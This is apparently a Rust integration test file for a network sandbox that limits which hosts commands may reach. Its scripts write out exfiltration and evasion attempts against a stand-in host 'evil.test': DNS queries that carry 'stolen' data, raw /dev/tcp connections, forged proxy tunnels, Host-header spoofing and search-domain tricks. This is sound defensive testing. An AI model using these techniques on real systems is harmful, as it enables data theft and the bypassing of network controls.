//! Connections of commands to servers on other machines: a second network, with an allowed server and a hostile one.
//!
//! The attacks have the numbers of the attack corpus; each comes with a control that succeeds without Portcullis.

pub(crate) mod asking;
mod attacks;
mod holding;
mod ports;
pub(crate) mod programs;
mod proxy_tls;
mod several_hosts;
mod table;

use std::io::Write as _;
use std::os::unix::fs::PermissionsExt as _;
use std::os::unix::net::UnixListener;

use anyhow::{Context as _, Result, ensure};
use portcullis_it::{Finished, Scene, User, World};

as_each_user!(
    what_is_allowed_works,
    attacks_fail,
    controls_work,
    nothing_is_asked_of_any_name_server,
    the_model_is_told_why,
    whoever_connects_before_the_verdict_is_told_why,
    a_refused_connection_fails_at_once,
    connections_and_their_bytes_are_logged,
    a_budget_that_is_used_up_stops_what_follows,
    ports_of_this_machines_loopback_are_named,
    no_proxy_at_an_allowed_address_is_asked_for_another_server,
    servers_inside_can_be_reached_inside,
    hidden_names_can_be_allowed,
    unix_sockets_are_named,
    without_a_host_nothing_is_reached,
    many_connections_at_once_are_refused,
    the_users_proxy_is_used,
    policies_decide_about_later_stages,
    a_dead_name_service_stops_what_needs_it_and_nothing_else,
    too_many_connections_are_told_why,
    names_that_programs_complete_or_know_by_themselves,
    names_of_the_hosts_file_are_judged_as_names,
);

/// Settings with the hosts that the commands of most tests may reach.
const NETWORK: &str = r#"{
  "allowedDomains": ["allowed.test:80", "allowed.test:443", "*.allowed.test", "private.test", "metadata.test",
                     "loopback.test", "own.test", "flips.test", "*.wild.test"],
  "deniedDomains": ["evil.test"],
  "deniedDomainReasons": { "evil.test": "nothing good comes from there" }
}"#;

pub(crate) const PROGRAM: &str = env!("CARGO_BIN_EXE_world");

/// Whether the scripts cover this row of the corpus.
pub(crate) fn tries(row: u16) -> bool {
    attacks::ATTACKS.iter().chain(attacks::WITHOUT_CONTROL).any(|attack| attack.row == row)
}

/// A script that runs `script` and prints its output between two marks.
pub(crate) fn marked(number: usize, script: &str) -> String {
    format!("echo '<{number}>'\n( {script} ) 2>&1 | tr -d '\\0'\necho '</{number}>'\n")
}

/// Returns what a script printed between its marks.
pub(crate) fn section(output: &str, number: usize) -> Result<&str> {
    let (_, rest) =
        output.split_once(&format!("<{number}>\n")).with_context(|| format!("no {number} in {output}"))?;
    let (section, _) =
        rest.split_once(&format!("</{number}>\n")).with_context(|| format!("no end of {number}"))?;
    Ok(section)
}

/// Runs scripts one after another and returns what each of them printed.
fn each(scripts: &[&str], run: impl FnOnce(&str) -> Result<Finished>) -> Result<Vec<String>> {
    let all: String = scripts.iter().enumerate().map(|(number, script)| marked(number, script)).collect();
    let finished = run(&format!("{}\n{all}", attacks::TOOLS))?;
    let output = &finished.stdout;
    (0..scripts.len())
        .map(|number| Ok(section(output, number).with_context(|| format!("{finished:#?}"))?.to_owned()))
        .collect()
}

fn what_is_allowed_works(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?;
    let scripts: Vec<&str> = attacks::HONEST.iter().map(|(_, script)| *script).collect();
    let outputs = each(&scripts, |script| world.run(NETWORK, script))?;
    for ((what, _), output) in attacks::HONEST.iter().zip(outputs) {
        ensure!(output.contains("REACHED"), "{what}: {output}");
    }
    Ok(())
}

fn attacks_fail(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?;
    let all = attacks::ATTACKS.iter().chain(attacks::WITHOUT_CONTROL);
    let scripts: Vec<&str> = all.clone().map(|attack| attack.script).collect();
    let outputs = each(&scripts, |script| world.run(NETWORK, script))?;
    for (attack, output) in all.zip(outputs) {
        ensure!(!output.contains(attack.reached), "row {} ({}): {output}", attack.row, attack.what);
    }
    let seen = world.seen()?;
    for address in ["HTTP 203.0.113.2", "169.254.169.254", "HTTP 10.0.0.1", "HTTP 203.0.113.254", "evil"] {
        ensure!(!seen.contains(address), "{address} was reached: {seen}");
    }
    Ok(())
}

fn controls_work(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?;
    let scripts: Vec<&str> = attacks::ATTACKS.iter().map(|attack| attack.script).collect();
    let outputs = each(&scripts, |script| world.control(script))?;
    for (attack, output) in attacks::ATTACKS.iter().zip(outputs) {
        ensure!(output.contains(attack.reached), "control of row {} ({}): {output}", attack.row, attack.what);
    }
    Ok(())
}

/// Rows 90 and 91.
fn nothing_is_asked_of_any_name_server(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?;
    // A query with data in its name, to any name server: through the C library, and handmade.
    let script = r"getent hosts stolen.evil.test
        for server in 203.0.113.53 8.8.8.8; do
            exec 3<>/dev/udp/$server/53
            printf '\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06stolen\x04evil\x04test\x00\x00\x10\x00\x01' >&3
            timeout 2 head -c 12 <&3 | od -An -tx1
        done; true";
    let finished = world.run(NETWORK, script)?.ended_with(0)?;
    ensure!(finished.stdout.contains("198.18.0."), "every name has an address at once: {finished:#?}");
    ensure!(finished.stdout.contains("12 34 81 85"), "a question for text is refused: {finished:#?}");
    ensure!(!world.seen()?.contains("stolen"), "{}", world.seen()?);
    world.control(script)?;
    ensure!(world.seen()?.contains("DNS stolen.evil.test"), "control: {}", world.seen()?);
    Ok(())
}

fn the_model_is_told_why(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?;
    let script = "curl -sS http://evil.test/; curl -sS https://evil.test/; curl -sS http://unlisted.test/; \
                  exec 3<>/dev/tcp/evil.test/22 && cat <&3";
    let finished = world.run(NETWORK, script)?;
    // The call fails, so no program takes a page for content, nor tries again; and the reason is appended once to the
    // output of the command.
    ensure!(finished.stdout.is_empty(), "{finished:#?}");
    ensure!(finished.stderr.contains("/dev/tcp/evil.test/22: Permission denied"), "{finished:#?}");
    for line in [
        "network: no connection to evil.test:80, evil.test:443, evil.test:22: nothing good comes from there",
        "network: no connection to unlisted.test:80: `allowedDomains` does not name this host",
    ] {
        ensure!(finished.stderr.matches(line).count() == 1, "{line}: {finished:#?}");
    }
    Ok(())
}

/// If calls are not held, the client gets the reason in its own protocol.
fn whoever_connects_before_the_verdict_is_told_why(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?.holding("accept");
    let script = "curl -sS http://evil.test/; curl -sS https://evil.test/; \
                  exec 3<>/dev/tcp/evil.test/22 && cat <&3";
    let finished = world.run(NETWORK, script)?;
    let page = "portcullis: the connection to evil.test:80 is denied: nothing good comes from there (rule \
                `network.deniedDomains[0]` of `settings`)";
    ensure!(finished.stdout.contains(page), "{finished:#?}");
    ensure!(finished.stderr.contains("access denied"), "{finished:#?}");
    ensure!(finished.stderr.to_lowercase().contains("reset by peer"), "{finished:#?}");
    Ok(())
}

/// Package managers try again for as long as they take a refusal for a fault of the network.
fn a_refused_connection_fails_at_once(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?;
    let script = "npm install --registry http://unlisted.test/ left-pad; echo \"exit $?\"";
    let began = std::time::Instant::now();
    let finished = world.run(NETWORK, script)?.ended_with(0)?;
    let took = began.elapsed();
    ensure!(!finished.stdout.contains("exit 0") && finished.stderr.contains("EACCES"), "{finished:#?}");
    ensure!(took < std::time::Duration::from_secs(30), "it took {took:?}: {finished:#?}");
    Ok(())
}

/// A name that this machine knows by itself is allowed as that name, and leads to no loopback of the machine's. The
/// control is the same name without the sandbox.
fn names_of_the_hosts_file_are_judged_as_names(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?;
    let script =
        "curl -sS -m 5 http://by-hand.test/; curl -sS -m 5 http://loop-by-hand.test:8000/; cat /etc/hosts";
    let finished = world.run(NETWORK, script)?;
    ensure!(finished.stderr.contains("no connection to by-hand.test:80"), "{finished:#?}");
    ensure!(!finished.stdout.contains("by-hand.test"), "the host's own file: {finished:#?}");
    let network = r#"{ "allowedDomains": ["by-hand.test", "loop-by-hand.test"], "deniedDomains": [] }"#;
    let finished = world.run(network, script)?;
    ensure!(finished.stdout.matches("REACHED").count() == 1, "{finished:#?}");
    ensure!(finished.stdout.contains("REACHED 203.0.113.1 as by-hand.test"), "{finished:#?}");
    ensure!(finished.stderr.contains("`loop-by-hand.test` leads to 127.0.0.1"), "{finished:#?}");
    let address = r#"{ "allowedDomains": ["203.0.113.1"], "deniedDomains": [] }"#;
    let finished = world.run(address, script)?;
    ensure!(!finished.stdout.contains("REACHED"), "it is a name: {finished:#?}");
    let control = world.control(script)?;
    ensure!(control.stdout.matches("REACHED").count() == 2, "control: {control:#?}");
    Ok(())
}

/// Row 113: connections to an allowed host are allowed, counted and logged.
fn connections_and_their_bytes_are_logged(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?;
    let script = "head -c 100000 /dev/zero | curl -sS --data-binary @- http://allowed.test/";
    let finished = world.run(NETWORK, script)?.ended_with(0)?;
    ensure!(finished.stdout.contains("REACHED"), "{finished:#?}");
    ensure!(world.seen()?.contains("body=100000"), "{}", world.seen()?);
    let shown = scene.portcullis(&["audit", "tail", "--json"])?.ended_with(0)?;
    ensure!(shown.stdout.contains(r#""domain":"allowed.test""#), "{shown:#?}");
    ensure!(shown.stdout.contains("/bin/curl"), "the program is known: {shown:#?}");
    let sent = shown
        .stdout
        .lines()
        .find(|line| line.contains("bytes sent"))
        .with_context(|| format!("{shown:#?}"))?;
    let number = sent.split("closed; ").nth(1).and_then(|rest| rest.split(' ').next()).context("a number")?;
    ensure!((100_000..110_000).contains(&number.parse::<u32>()?), "{sent}");
    Ok(())
}

fn a_budget_that_is_used_up_stops_what_follows(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?;
    let network = r#"{ "allowedDomains": ["allowed.test"], "deniedDomains": [], "uploadBudgetMib": 1 }"#;
    let send = |count| {
        format!("head -c {count} /dev/zero | curl -sS --data-binary @- -H Expect: http://allowed.test/; ")
    };
    let finished = world.run(network, &(send(900_000) + &send(900_000) + &send(10)))?;
    ensure!(finished.stdout.matches("REACHED").count() == 1, "{finished:#?}");
    ensure!(finished.stderr.contains("more than 1 MiB were sent there in this session"), "{finished:#?}");
    let bodies: Vec<String> =
        world.seen()?.lines().filter(|line| line.contains("body=")).map(str::to_owned).collect();
    ensure!(bodies.first().is_some_and(|line| line.ends_with("body=900000")), "{bodies:?}");
    Ok(())
}

/// Row 112, and connections from this machine into the sandbox.
fn ports_of_this_machines_loopback_are_named(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?;
    let network = r#"{ "allowedDomains": ["localhost:8000"], "deniedDomains": [] }"#;
    let script = "curl -sS http://127.0.0.1:8000/; curl -sS http://localhost:8000/";
    let finished = world.run(network, script)?;
    ensure!(finished.stdout.matches("REACHED 203.0.113.254").count() == 2, "{finished:#?}");
    let finished = world.run(NETWORK, script)?;
    ensure!(!finished.stdout.contains("REACHED"), "{finished:#?}");
    Ok(())
}

/// Servers that were allowed by address get no request in the form for a forward proxy; other requests to them may
/// contain any host name.
fn no_proxy_at_an_allowed_address_is_asked_for_another_server(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?;
    let network = r#"{ "allowedDomains": ["localhost:8000", "203.0.113.1:80"], "deniedDomains": [] }"#;
    let tunnel = |place: &str| {
        let head = format!("CONNECT {place} HTTP/1.1\\r\\nHost: {place}\\r\\n\\r\\n");
        format!("exec 3<>/dev/tcp/127.0.0.1/8000; printf '{head}' >&3; timeout 2 head -1 <&3")
    };
    let (other, own) = (tunnel("evil.test:80"), tunnel("localhost:8000"));
    let refused = [
        "curl -sS -x http://127.0.0.1:8000 http://evil.test/",
        "curl -sS -x http://203.0.113.1:80 http://evil.test/",
        "curl -sS -x http://localhost:8000 http://localhost:22/",
        &other,
    ];
    let free = [
        "curl -sS -H 'Host: evil.test' http://localhost:8000/",
        "curl -sS -x http://localhost:8000 http://localhost:8000/",
        "curl -sS --resolve by-hand.test:80:203.0.113.1 http://by-hand.test/",
        "curl -sS -x $PORTCULLIS_PROXY --noproxy '' http://localhost:8000/",
        "curl -sS -x $PORTCULLIS_PROXY --noproxy '' -p http://app.localhost:8000/",
        "curl -sS -x socks5h://${PORTCULLIS_PROXY#http://} --noproxy '' http://localhost:8000/",
        "curl -sS -x $PORTCULLIS_PROXY --noproxy '' http://127.0.0.1:8000/",
        &own,
    ];
    let reaches = |output: &str| output.contains("REACHED") || output.contains("HTTP/1.1 200");
    let all: Vec<&str> = refused.iter().chain(&free).copied().collect();
    let outputs = each(&all, |script| world.run(network, script))?;
    for (number, (script, output)) in all.iter().zip(&outputs).enumerate() {
        ensure!(reaches(output) == (number >= refused.len()), "{script}: {output}");
    }
    let reason = "the request asks a proxy for `evil.test:80`, but the connection is to `127.0.0.1:8000` (rule \
                  `host.other-server` of `host`)";
    ensure!(outputs.first().is_some_and(|output| output.contains(reason)), "{outputs:?}");
    for (script, output) in refused.iter().zip(each(&refused, |script| world.control(script))?) {
        ensure!(reaches(&output), "control: {script}: {output}");
    }
    Ok(())
}

fn servers_inside_can_be_reached_inside(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?;
    let script = "perl -MIO::Socket::INET -e '$| = 1; $s = IO::Socket::INET->new(Listen => 1, LocalPort => 8123) or die; \
                  print qq(up\\n); $c = $s->accept; print $c qq(inside\\n)' | (read up; exec 3<>/dev/tcp/localhost/8123; cat <&3)";
    let finished = world.run(NETWORK, script)?;
    ensure!(finished.stdout.trim() == "inside", "{finished:#?}");
    Ok(())
}

/// Row 103: refused by default, as the attacks show.
fn hidden_names_can_be_allowed(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?;
    let script =
        "openssl s_client -connect allowed.test:443 -noservername </dev/null 2>/dev/null | grep -c BEGIN";
    let network =
        r#"{ "allowedDomains": ["allowed.test"], "deniedDomains": [], "hiddenServerNames": "allow" }"#;
    let finished = world.run(network, script)?;
    ensure!(finished.stdout.trim() == "1", "{finished:#?}");
    let network = r#"{ "allowedDomains": ["allowed.test"], "deniedDomains": [], "requireHostMatch": false }"#;
    let script = "curl -sS -H 'Host: other.test' http://allowed.test/";
    let finished = world.run(network, script)?;
    ensure!(finished.stdout.contains("as other.test"), "{finished:#?}");
    Ok(())
}

/// The `/tmp` of the session shows of this machine's only the sockets that the settings name.
fn unix_sockets_are_named(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?;
    let place = tempfile::Builder::new().prefix("portcullis-it-").tempdir_in("/tmp")?;
    let socket = place.path().join("socket");
    let listener = UnixListener::bind(&socket)?;
    for path in [place.path(), &socket] {
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o777))?;
    }
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            drop(stream.write_all(b"REACHED\n"));
        }
    });
    let script = format!(
        "perl -MIO::Socket::UNIX -e '$s = IO::Socket::UNIX->new(Peer => q({})) or die $!; print <$s>'",
        socket.display()
    );
    ensure!(world.control(&script)?.stdout.contains("REACHED"), "control");
    let hosts = r#""allowedDomains": [], "deniedDomains": []"#;
    let named = format!(r#"{{ {hosts}, "allowUnixSockets": ["{}"] }}"#, socket.display());
    let finished = world.run(&named, &script)?;
    ensure!(finished.stdout.contains("REACHED"), "{finished:#?}");
    let finished = world.run(&format!("{{ {hosts} }}"), &script)?;
    ensure!(!finished.stdout.contains("REACHED"), "{finished:#?}");
    // A file that is not a socket when the command starts does not appear.
    std::fs::write(place.path().join("file"), "secret")?;
    let other = format!(r#"{{ {hosts}, "allowUnixSockets": ["{}/file"] }}"#, place.path().display());
    let finished = world.run(&other, &format!("cat {}/file", place.path().display()))?;
    ensure!(!finished.stdout.contains("secret"), "{finished:#?}");
    Ok(())
}

/// The commands of a killed host die with it, so no process is left that could connect.
fn without_a_host_nothing_is_reached(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?;
    let settings = world.settings(NETWORK)?;
    let binary = portcullis_it::portcullis(user)?;
    let script = format!(
        "'{}' run --settings '{}' -- bash -c 'echo up; while :; do curl -s http://allowed.test/beat; sleep 0.05; done' > out & \
         until grep -q REACHED out; do sleep 0.02; done; kill -KILL $!; wait; before=$(wc -l < '{seen}'); sleep 0.5; \
         echo $(($(wc -l < '{seen}') - before))",
        binary.display(),
        settings.display(),
        seen = scene.at("world").join("seen").display()
    );
    let finished = world.control(&script)?;
    ensure!(finished.stdout.trim().ends_with('0'), "{finished:#?}");
    Ok(())
}

/// There is no client that answers, so all connections are refused; the host continues to work.
fn many_connections_at_once_are_refused(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?;
    let script = "perl -MIO::Socket::INET -e 'for (1 .. 300) { push @s, IO::Socket::INET->new(PeerAddr => q(192.0.2.1), \
                  PeerPort => $_, Timeout => 9) } $n = 0; for (@s) { sysread($_, my $b, 9) or $n++ } print qq($n\\n)'; \
                  curl -sS http://allowed.test/";
    let finished = world.run(NETWORK, script)?;
    ensure!(finished.stdout.starts_with("300\n") && finished.stdout.contains("REACHED"), "{finished:#?}");
    Ok(())
}

fn the_users_proxy_is_used(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?;
    let settings = |proxies: &str, more: &str| {
        format!(
            r#"{{ "allowedDomains": ["*.allowed.test", "behind.test", "metadata.test"], "deniedDomains": [],
                  "parentProxy": {{ {proxies}, "noProxy": "other.allowed.test" }}{more} }}"#
        )
    };
    let get = |host: &str| format!("curl -sS http://{host}/; ");
    let script = get("sub.allowed.test")
        + &get("behind.test")
        + &get("other.allowed.test")
        + &get("metadata.test")
        + &get("evil.test")
        + "curl -sSk https://sub.allowed.test/ | grep -c '<HTML>'";
    for (proxies, both) in [
        (r#""http": "http://proxy.test:3128""#, true),
        (r#""https": "socks5://203.0.113.9""#, true),
        (r#""http": "http://proxy.test:3128", "https": "http://nobody.test:1""#, false),
    ] {
        let finished = world.run(&settings(proxies, ""), &script)?;
        ensure!(finished.stdout.matches("REACHED 203.0.113.1").count() == 3, "{proxies}: {finished:#?}");
        ensure!(finished.stdout.lines().any(|line| line == "1") == both, "{proxies}: {finished:#?}");
        let seen = world.seen()?;
        for place in ["sub.allowed.test:80", "behind.test:80"] {
            ensure!(seen.contains(&format!("PROXY {place}")), "{proxies}: {seen}");
        }
        ensure!(both == seen.contains("PROXY sub.allowed.test:443"), "{proxies}: {seen}");
        for place in ["PROXY other", "PROXY metadata", "PROXY evil", "HTTP 169"] {
            ensure!(!seen.contains(place), "{proxies}, {place}: {seen}");
        }
        std::fs::remove_file(scene.at("world").join("seen"))?;
    }
    // The password is sent to the proxy and to no other server.
    let known = r#""http": "http://me:secret@proxy.test:3128""#;
    let finished = world.run(&settings(known, ""), &get("known.allowed.test"))?;
    ensure!(finished.stdout.contains("REACHED"), "{finished:#?}");
    let finished = world.run(&settings(&known.replace("secret", "other"), ""), &get("known.allowed.test"))?;
    ensure!(finished.stdout.contains("answered `HTTP/1.1 407 Who are you`"), "{finished:#?}");
    // Where the settings deny addresses, the host must resolve a name itself.
    let more = r#", "deniedResolvedAddresses": ["192.0.2.0/24"]"#;
    let script = get("sub.allowed.test") + &get("behind.test");
    let finished = world.run(&settings(r#""http": "http://proxy.test:3128""#, more), &script)?;
    ensure!(finished.stdout.matches("REACHED").count() == 1, "{finished:#?}");
    ensure!(finished.stdout.contains("only the proxy knows its addresses"), "{finished:#?}");
    Ok(())
}

fn policies_decide_about_later_stages(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?.with_policy(&portcullis_it::guest("stages", user)?);
    let script = "curl -sS http://allowed.test/; curl -sS -X DELETE -H 'X-Odd: 1' http://allowed.test/it; \
                  curl -sS -d x http://allowed.test/; curl -sS http://other.allowed.test/; \
                  curl -sSk https://sub.allowed.test/; curl -sSk https://allowed.test/ | grep -c '<HTML>'";
    let finished = world.run(NETWORK, script)?;
    ensure!(finished.stdout.matches("REACHED").count() == 1, "{finished:#?}");
    ensure!(finished.stdout.lines().any(|line| line == "1"), "TLS that nobody denies: {finished:#?}");
    let all = format!("{}{}", finished.stdout, finished.stderr);
    for reason in [
        "http://allowed.test/it has host and user-agent and accept and x-odd",
        "something is sent to http://allowed.test/",
        "it leads to 203.0.113.1",
        "the server name is sub.allowed.test",
    ] {
        ensure!(all.contains(reason), "{reason}: {finished:#?}");
    }
    let seen = world.seen()?;
    ensure!(!seen.contains("DELETE") && !seen.contains("POST"), "{seen}");
    Ok(())
}

fn a_dead_name_service_stops_what_needs_it_and_nothing_else(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?;
    let script = "curl -sS http://silent.allowed.test/ > silent 2>&1 & \
                  curl -sS http://allowed.test/; test -s silent && echo early; wait; cat silent";
    let finished = world.run(NETWORK, script)?;
    ensure!(finished.stdout.matches("REACHED").count() == 1, "{finished:#?}");
    ensure!(!finished.stdout.contains("early"), "{finished:#?}");
    ensure!(finished.stdout.contains("`silent.allowed.test:80` cannot be reached"), "{finished:#?}");
    Ok(())
}

/// With few file descriptors there is room for few connections: one without room gets the reason, and all others are
/// served.
fn too_many_connections_are_told_why(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?;
    let settings = world.settings(NETWORK)?;
    let binary = portcullis_it::portcullis(user)?;
    // Room for twelve connections, of which ten are taken by ones that stay open.
    let inside = "ulimit -n; for i in 1 2 3 4 5 6 7 8 9 10; do exec {fd}<>/dev/tcp/sub.allowed.test/7; done; \
                  for i in 1 2 3 4 5 6 7 8; do curl -sS http://allowed.test/ & done; wait; \
                  for i in 1 2 3 4 5; do exec {fd}<>/dev/tcp/sub.allowed.test/7; done; curl -sS http://allowed.test/";
    let script = format!(
        "ulimit -Sn 270; ulimit -Hn 280; '{}' run --ask deny --settings '{}' -- bash -c '{inside}'",
        binary.display(),
        settings.display()
    );
    let finished = world.control(&script)?;
    // Commands get three quarters of the hard limit; the rest is reserved for the host.
    ensure!(finished.stdout.starts_with("210\n"), "commands have a limit of their own: {finished:#?}");
    let (reached, refused) = (
        finished.stdout.matches("REACHED").count(),
        finished.stdout.matches("too many connections are open in this session").count(),
    );
    ensure!(reached >= 2 && refused >= 1 && reached + refused == 9, "{finished:#?}");
    ensure!(finished.stderr.contains("network: too many connections"), "{finished:#?}");
    Ok(())
}

fn names_that_programs_complete_or_know_by_themselves(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let world = World::new(&scene, PROGRAM)?;
    let connect = |variables: &str, place: &str| {
        format!(
            "{variables} perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => q({place})) or die $!; \
             print scalar <$s>'"
        )
    };
    // A search domain completes a short name, and the completed name is judged.
    let finished = world.run(NETWORK, &connect("LOCALDOMAIN=allowed.test", "sub:22"))?;
    ensure!(finished.stdout.contains("REACHED"), "{finished:#?}");
    let finished = world.run(NETWORK, &connect("LOCALDOMAIN=evil.test", "sub:22"))?;
    ensure!(!finished.stdout.contains("REACHED"), "{finished:#?}");
    ensure!(finished.stderr.contains("no connection to sub.evil.test:22"), "{finished:#?}");
    // With `ndots` above the dots of the name, the completed name is tried first; it is not the allowed one.
    let dots = "LOCALDOMAIN=evil.test RES_OPTIONS=ndots:5";
    let finished = world.run(NETWORK, &connect(dots, "sub.allowed.test:22"))?;
    ensure!(finished.stderr.contains("no connection to sub.allowed.test.evil.test:22"), "{finished:#?}");
    Ok(())
}
